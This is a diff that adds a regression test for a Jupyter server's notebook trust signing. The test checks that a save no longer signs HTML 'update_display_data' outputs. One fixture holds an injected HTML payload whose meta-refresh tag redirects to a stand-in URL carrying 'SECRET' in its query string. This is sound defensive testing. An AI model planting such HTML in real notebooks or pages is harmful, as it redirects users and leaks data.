@@ -9,6 +9,7 @@ control here is jupyter_server's own contents manager, unchanged.
 
 from __future__ import annotations
 
+import json
 import logging
 import subprocess
 import sys
@@ -156,3 +157,28 @@ def test_trust_signs_a_notebook_the_guarded_server_then_trusts(tmp_path: Path) -
     assert _trusted_when_opened(cm, "other.ipynb") == [False]
     missing = subprocess.run([*command, str(tmp_path / "nope.ipynb")], capture_output=True, text=True, timeout=120)
     assert missing.returncode == 1 and "nope.ipynb: no such file" in missing.stderr
+
+
+@pytest.mark.parametrize("guarded", [False, True], ids=["control", "guarded"])
+def test_a_save_signs_no_output_kind_it_does_not_know_to_be_text(tmp_path: Path, guarded: bool) -> None:
+    """nbformat lists the output kinds that are not safe (results with data),
+    and an ``update_display_data`` holding HTML, which Lab renders as a
+    display, was signed by a plain save and shown trusted when opened again:
+    its ``<meta http-equiv=refresh>`` took the page to an address of the
+    cell's choosing (an attack review, in the guarded Lab)."""
+    cm, _ = _manager(tmp_path, guarded=guarded)
+    html = "<b>hi</b><meta http-equiv='refresh' content='0;url=http://127.0.0.1:9/?d=SECRET'>"
+    update = {"output_type": "update_display_data", "data": {"text/html": html}, "metadata": {}, "transient": {}}
+    cell = {"cell_type": "code", "id": "a1", "execution_count": 1, "metadata": {}, "source": "report()"}
+    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{**cell, "outputs": [update]}]}
+    (tmp_path / "report.ipynb").write_text(json.dumps(notebook))
+    opened = cm.get("report.ipynb")["content"]
+    assert _trusted_when_opened(cm, "report.ipynb") == [False]
+    cm.save({"type": "notebook", "format": "json", "content": json.loads(json.dumps(opened))}, "report.ipynb")
+    assert _trusted_when_opened(cm, "report.ipynb") == [not guarded]
+    # text outputs, and results without data, are signed as before
+    text = {"output_type": "stream", "name": "stdout", "text": "ok\n"}
+    empty = {"output_type": "display_data", "metadata": {}}
+    plain = {**notebook, "cells": [{**cell, "outputs": [text, empty]}]}
+    cm.save({"type": "notebook", "format": "json", "content": plain}, "plain.ipynb")
+    assert _trusted_when_opened(cm, "plain.ipynb") == [True]
